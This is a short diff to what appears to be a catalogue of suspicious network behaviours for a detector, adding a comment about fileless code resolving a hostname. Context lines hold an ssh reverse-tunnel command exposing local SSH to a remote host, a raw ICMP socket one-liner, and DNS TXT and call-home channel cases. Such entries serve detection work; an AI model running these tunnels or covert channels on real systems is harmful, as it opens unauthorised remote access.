@@ -12,6 +12,7 @@ ssh -o BatchMode=yes -N -R 2222:localhost:22 10.9.8.7
 ## Socket of ICMP made by an untrusted program
 python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)'
 ## Answers taken from DNS texts
+#also Code without a file asks for a name of the internet
 ask_dns TXT 32 8
 ## Call home at regular times
 #also Executable run from a scratch folder
